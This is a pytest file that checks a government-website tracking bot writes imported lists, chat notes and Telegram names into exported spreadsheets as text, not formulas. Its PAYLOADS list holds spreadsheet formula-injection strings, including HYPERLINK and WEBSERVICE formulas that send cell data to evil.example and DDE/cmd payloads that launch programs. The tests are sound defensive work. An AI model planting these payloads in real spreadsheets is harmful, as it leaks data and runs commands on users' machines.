"""Text that lists and people wrote is written as text in every spreadsheet Zhiri makes, never as a formula:
the export (and importing it back changes nothing), the half-month report and long lists sent as files."""

from __future__ import annotations

import zipfile
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import select

from acts.routine import record_answer, record_fix_note, set_prompt
from bot.cli import main
from domain.calendar import WorkCalendar
from jobs.routine import RoutineConfig, tick
from jobs.sender import SenderState, SendLimits
from reports.table import Table, xlsx
from storage.db import session_scope
from storage.items import Judge
from storage.models import Person
from storage.queries import Speaker, actor_for
from tests.conftest import SHANGHAI, at
from tests.routine.conftest import ADMIN_TG, FIN_CHAT, FIN_WM_TG, FakeTransport, add_item, build_world

# Eight ways a cell's text can become something a spreadsheet runs.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看整改要求")',
    '=WEBSERVICE("http://evil.example/leak?"&B3)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"A1")',
    "＝1+1",
)


def formula_cells(data: bytes) -> list[str]:
    """Every cell written as a formula, from the file's XML itself (what Excel or WPS would run)."""
    with zipfile.ZipFile(BytesIO(data)) as z:
        return [
            name
            for name in z.namelist()
            if name.startswith("xl/worksheets/") and (b"<f>" in z.read(name) or b"<f " in z.read(name))
        ]


def assert_text_cells(data: bytes, expected: set[str]) -> None:
    assert formula_cells(data) == []
    book = load_workbook(BytesIO(data))  # formulas would read back as formulas (not data_only)
    found: dict[str, object] = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in expected:
                    found[cell.value] = cell
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
    assert set(found) == expected


def test_export_writes_every_payload_as_text_and_importing_it_back_changes_nothing(
    sqlite_url, monkeypatch, capsys, tmp_path: Path
):
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    rows = ["一级栏目,二级栏目,更新时限要求,责任单位,栏目内容,备注"]
    for n, payload in enumerate(PAYLOADS, start=1):
        quoted = '"' + payload.replace('"', '""') + '"'
        rows.append(f"政务公开,栏目{n},2周内更新,市财政局,{quoted},{quoted}")
    rows.append(f'"{PAYLOADS[2]}",首页,2周内更新,市财政局,,')
    source = tmp_path / "list.csv"
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    assert main(["import", str(source)]) == 0
    out = tmp_path / "export.xlsx"
    assert main(["export", str(out)]) == 0
    assert_text_cells(out.read_bytes(), set(PAYLOADS))
    capsys.readouterr()

    assert main(["import", str(out)]) == 0
    report = capsys.readouterr().out
    assert "新增 0 项，变更 0 项，停用 0 项，恢复 0 项" in report, report


def test_attachments_write_every_payload_as_text():
    table = Table("长列表", ("名称", "备注"), tuple((p, p) for p in PAYLOADS), "list.xlsx")
    assert_text_cells(xlsx(table), set(PAYLOADS))


async def test_a_chat_note_and_a_telegram_name_reach_the_half_month_report_as_text(engine: Engine):
    """A webmaster whose Telegram name is a formula answers the half-month check with a formula as note."""
    world = build_world(engine, at("2026-09-01 09:00"))
    judge = Judge(SHANGHAI, WorkCalendar(on_fallback=lambda _y: None))
    budget = add_item(
        engine, world, judge, "政务公开 / 财政预决算", "2周内更新", "市财政局", at("2026-09-19 09:00")
    )
    name, note = PAYLOADS[0], PAYLOADS[1]
    with session_scope(engine) as s:
        person = s.exec(select(Person).where(Person.telegram_id == FIN_WM_TG)).one()
        person.name = name
        s.add(person)
        who = actor_for(s, Speaker(FIN_WM_TG, name, None, None), ())
        answer = record_answer(s, at("2026-10-09 10:00"), who, budget, date(2026, 10, 1), "problem", FIN_CHAT)
        set_prompt(s, at("2026-10-09 10:00"), answer.answer_id, FIN_CHAT, 777)  # type: ignore[union-attr]
        assert record_fix_note(s, at("2026-10-09 10:05"), who, FIN_CHAT, 777, note) is not None
    transport = FakeTransport()
    fast = SendLimits(per_second=1000, private_interval=0.0, group_per_window=10_000, linger=0.2)
    await tick(
        engine, transport, at("2026-10-10 17:00"), RoutineConfig(tz=SHANGHAI, limits=fast), SenderState(fast)
    )
    report = next(m for m in transport.to(ADMIN_TG) if m.document is not None)
    assert report.document is not None
    assert_text_cells(report.document, {name, note})


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sheetwrite_keeps_the_value_unchanged(payload):
    from openpyxl import Workbook

    from reports.sheetwrite import append_row

    book = Workbook()
    ws = book.active
    assert ws is not None
    append_row(ws, [payload, "\x01控制字符\x1f", 3])
    buf = BytesIO()
    book.save(buf)
    back = load_workbook(BytesIO(buf.getvalue()), data_only=True).active
    assert back is not None
    assert [c.value for c in back[1]] == [payload, "控制字符", 3]
